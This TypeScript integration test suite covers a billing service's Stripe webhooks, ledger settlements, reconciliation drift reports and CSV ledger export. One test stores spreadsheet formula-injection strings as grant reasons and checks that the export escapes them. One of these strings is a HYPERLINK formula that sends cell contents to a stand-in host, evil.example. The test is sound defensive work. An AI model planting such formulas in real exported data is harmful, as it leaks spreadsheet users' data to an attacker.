import { databaseUrl } from '@svc/test-kit';
import { redisKeys } from '@svc/contracts';
import type { SettlementRecord } from '@svc/contracts';
import { createBillingDatabase } from '../src/db/prisma.repository';
import type { BillingDatabase } from '../src/db/prisma.repository';
import { call, operatorHeaders, expectInvalidRequest } from './billing-harness';
import { settlementRecord, TestLedgerAppend } from './ledger-fixtures';
import { asKey, checkout, newAccount, spendableBecomes, startStripeHarness } from './stripe-harness';
import type { StripeHarness } from './stripe-harness';

let h: StripeHarness;
let database: BillingDatabase;
let ledger: TestLedgerAppend;

beforeAll(async () => {
  h = await startStripeHarness('finance', { timeoutMs: 300 });
  const name = (await h.db.query<{ n: string }>('SELECT current_database() AS n')).rows[0]?.n ?? '';
  database = createBillingDatabase(databaseUrl(name), () => undefined);
  ledger = new TestLedgerAppend(database);
}, 60_000);

afterAll(async () => {
  await database.close();
  await h.close();
});

async function deliver(type: string, object: Record<string, unknown>): Promise<void> {
  const result = await h.stripe.deliver(h.stripe.event(type, object), { url: h.webhookUrl });
  if (result.status !== 200) throw new Error(`webhook ${type}: ${result.status} ${result.body}`);
}

/** What the gateway does for a settled search (spendable down by the charge), then what the ledger worker writes. */
async function searches(accountId: string, records: SettlementRecord[]): Promise<void> {
  for (const record of records) await h.redis.decrby(redisKeys.accountBalance(accountId), record.chargedMicros);
  await ledger.writeSettlements(accountId, records);
}

async function report(): Promise<{ status: number; body: Record<string, unknown> }> {
  return call(`${h.billing.operatorUrl}/operator/finance/reconciliation`, { headers: operatorHeaders() });
}

let accountA: string;

describe('after a mixed run: purchases, searches, refunds, timeouts, a dispute', () => {
  beforeAll(async () => {
    // A: buys $20, searches (one timed out and kept its base price), $5 refunded, then a dispute takes the rest: negative.
    accountA = await newAccount(h);
    const a = await checkout(h, accountA, 20);
    await deliver('checkout.session.completed', h.stripe.completeSession(a.stripeSessionId));
    await spendableBecomes(h, accountA, 20_000_000);
    const timedOut = settlementRecord(accountA, 15_000, {
      attempts: [{ index: 0, model: 'exa/deep', provider: 'exa', source: 'platform', status: 'error', error: 'timed out', reservedMicros: 15_000, chargedMicros: 15_000, timedOut: true, results: 0 }],
    });
    await searches(accountA, [settlementRecord(accountA, 6_000), settlementRecord(accountA, 9_000), timedOut, settlementRecord(accountA, 0)]);
    await deliver('charge.refunded', h.stripe.refund(a.stripeSessionId, 500));
    await deliver('charge.dispute.created', h.stripe.dispute(a.stripeSessionId, 1500));
    // B: an async payment that succeeds, delivered twice out of order; an expired session; a checkout Stripe fails.
    const accountB = await newAccount(h);
    const b = await checkout(h, accountB, 10);
    const unpaid = h.stripe.completeSession(b.stripeSessionId, { paid: false });
    const paid = h.stripe.asyncPaymentSucceeded(b.stripeSessionId);
    await deliver('checkout.session.async_payment_succeeded', paid);
    await deliver('checkout.session.completed', unpaid);
    await deliver('checkout.session.async_payment_succeeded', paid);
    const expired = await checkout(h, accountB, 50);
    await deliver('checkout.session.expired', h.stripe.expireSession(expired.stripeSessionId));
    h.stripe.failNext('timeout', Number.POSITIVE_INFINITY);
    const failed = await call(`${h.billing.publicUrl}/v1/credits/checkout`, { method: 'POST', headers: asKey(accountB), body: '{"amount_usd": 30}' });
    h.stripe.clearFailures();
    expect(failed.status).toBe(502);
    await searches(accountB, [settlementRecord(accountB, 6_000)]);
    await spendableBecomes(h, accountA, -30_000);
    await spendableBecomes(h, accountB, 9_994_000);
  }, 60_000);

  it('the finance report shows zero drift everywhere', async () => {
    const response = await report();
    expect(response.status).toBe(200);
    expect(response.body).toMatchObject({
      balanced: true,
      stripe: {
        paid_sessions: { count: 2, amount_usd: 30 }, purchase_entries: { count: 2, amount_usd: 30 }, purchase_drift_usd: 0,
        unmatched_sessions: [], unmatched_entries: [], taken_back: { sessions_usd: 20, entries_usd: 20, drift_usd: 0 },
      },
      usage: {
        settlements: { count: 5, charged_usd: 0.036 }, usage_events_charged_usd: 0.036,
        search_charge_entries: { count: 4, amount_usd: 0.036 }, events_drift_usd: 0, entries_drift_usd: 0, mismatched_requests: [],
        key_spend_usd: 0.036, key_spend_drift_usd: 0,
      },
      ledger: { accounts: 2, accounts_off_sum: [] },
      spendable: { accounts: 2, drifting: [] },
    });
  });

  it('the report walks no keyspace: it reads drift only, so no reservation is looked up (decision 0036)', async () => {
    const scans = async (): Promise<number> => Number(/cmdstat_scan:calls=(\d+)/.exec(await h.redis.info('commandstats'))?.[1] ?? 0);
    const before = await scans();
    expect((await report()).body).toMatchObject({ spendable: { accounts: 2, drifting: [] } });
    expect(await scans()).toBe(before);
  });

  it("an account taken negative by a dispute keeps balance = sum of entries, and Redis holds the same negative figure", async () => {
    const balance = await h.db.query<{ b: string; s: string }>(
      `SELECT b.balance_micros::text AS b, (SELECT sum(amount_micros) FROM ledger_entries e WHERE e.account_id = b.account_id)::text AS s
       FROM account_balances b WHERE account_id = $1`, [accountA]);
    expect(balance.rows[0]).toEqual({ b: '-30000', s: '-30000' });
    expect(await h.redis.get(redisKeys.accountBalance(accountA))).toBe('-30000');
  });

  it('the usage totals equal the ledger totals', async () => {
    const usage = await call(`${h.billing.publicUrl}/v1/usage?group_by=model`, { headers: asKey(accountA) });
    const entries = await h.db.query<{ s: string }>(`SELECT (-sum(amount_micros))::text AS s FROM ledger_entries WHERE account_id = $1 AND kind = 'search_charge'`, [accountA]);
    expect(usage.body.total).toEqual({ searches: 4, cost_usd: 0.03, byok_fee_usd: 0, cache_hits: 0, cache_saved_usd: 0 });
    expect(Math.round((usage.body.total as { cost_usd: number }).cost_usd * 1_000_000)).toBe(Number(entries.rows[0]?.s));
  });

  it('exports the ledger of a period as CSV: one row per entry, 6-decimal USD amounts summing to the balance', async () => {
    const response = await fetch(`${h.billing.operatorUrl}/operator/ledger/export?account_id=${accountA}`, { headers: operatorHeaders() });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('text/csv');
    expect(response.headers.get('x-svc-request-id')).toMatch(/^req_/);
    const lines = (await response.text()).trimEnd().split('\r\n');
    expect(lines[0]).toBe('id,created_at,account_id,kind,amount_usd,balance_after_usd,reason,idempotency_key,request_id');
    const rows = lines.slice(1).map((line) => line.split(','));
    expect(rows.map((r) => r[3])).toEqual(['purchase', 'search_charge', 'search_charge', 'search_charge', 'stripe_refund', 'dispute']);
    expect(rows.map((r) => r[4])).toEqual(['20.000000', '-0.006000', '-0.009000', '-0.015000', '-5.000000', '-15.000000']);
    const micros = rows.reduce((sum, r) => sum + Number((r[4] ?? '').replace('.', '')), 0);
    expect(micros).toBe(-30_000);
    expect(rows.at(-1)?.[5]).toBe('-0.030000');
  });

  it('exports text that a spreadsheet would run as a formula behind a single quote (reasons and idempotency keys), amounts as numbers', async () => {
    const account = await newAccount(h);
    const grant = async (amountUsd: number, reason: string, idempotencyKey: string): Promise<void> => {
      const response = await call(`${h.billing.operatorUrl}/operator/accounts/${account}/grants`, {
        method: 'POST', headers: operatorHeaders({ 'idempotency-key': idempotencyKey }), body: JSON.stringify({ amount_usd: amountUsd, reason }),
      });
      expect(response.status).toBe(201);
    };
    await grant(10, '=HYPERLINK("https://evil.example/?d="&A1,"open")', '+1');
    await grant(2.5, '@SUM(A1:A9)', '-1+1');
    await grant(1, '+cmd', '=1');
    // A tab or a carriage return in front does not survive the grant route (its reason is trimmed):
    // written by the ledger's own append, as any other writer of a reason would.
    for (const reason of ['\t=1', '\r=1']) {
      const outcome = await ledger.appendEntry({ accountId: account, kind: 'grant', amountMicros: 1, reason, idempotencyKey: null, requestId: null });
      expect(outcome.kind).toBe('created');
    }
    const response = await fetch(`${h.billing.operatorUrl}/operator/ledger/export?account_id=${account}`, { headers: operatorHeaders() });
    expect(response.status).toBe(200);
    const records = (await response.text()).split('\r\n').slice(1, -1).map((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
    expect(records.map((r) => [r[4], r[5], r[6], r[7]])).toEqual([
      ['10.000000', '10.000000', '"\'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")"', '"\'+1"'],
      ['2.500000', '12.500000', '"\'@SUM(A1:A9)"', '"\'-1+1"'],
      ['1.000000', '13.500000', '"\'+cmd"', '"\'=1"'],
      ['0.000001', '13.500001', '"\'\t=1"', ''],
      ['0.000001', '13.500002', '"\'\r=1"', ''],
    ]);
  });

  it('rejects a bad export query as 400 invalid_request', async () => {
    for (const query of ['?account_id=nope', '?from=2026-13-01', '?from=2026-02-01&to=2026-01-01', '?format=xlsx']) {
      const response = await call(`${h.billing.operatorUrl}/operator/ledger/export${query}`, { headers: operatorHeaders() });
      expectInvalidRequest(response);
    }
  });

  it('reports key spend that differs from the settlements (the key-limit and recovery totals)', async () => {
    const changed = await h.db.query(`UPDATE key_spend_days SET spent_micros = spent_micros + 1 WHERE key_id = (SELECT key_id FROM key_spend_days WHERE account_id = $1 LIMIT 1)
      AND day = (SELECT max(day) FROM key_spend_days WHERE account_id = $1)`, [accountA]);
    expect(changed.rowCount).toBe(1);
    try {
      const response = await report();
      expect(response.body).toMatchObject({ balanced: false, usage: { key_spend_usd: 0.036001, key_spend_drift_usd: -0.000001 } });
    } finally {
      await h.db.query(`UPDATE key_spend_days SET spent_micros = spent_micros - 1 WHERE key_id = (SELECT key_id FROM key_spend_days WHERE account_id = $1 LIMIT 1)
        AND day = (SELECT max(day) FROM key_spend_days WHERE account_id = $1)`, [accountA]);
    }
    expect((await report()).body).toMatchObject({ balanced: true });
  });

  it('reports a paid session that has no purchase entry (the report can fail)', async () => {
    await h.db.query(`INSERT INTO checkout_sessions (id, account_id, stripe_session_id, status, amount_cents, credit_micros)
      VALUES ('chk_XXXXXXXXXXXXXXXXXXXXXXXX', $1, 'cs_test_lost', 'paid', 500, 5000000)`, [accountA]);
    try {
      const response = await report();
      expect(response.body).toMatchObject({ balanced: false, stripe: { unmatched_sessions: ['cs_test_lost'], purchase_drift_usd: 5 } });
    } finally {
      await h.db.query(`DELETE FROM checkout_sessions WHERE stripe_session_id = 'cs_test_lost'`);
    }
  });
});
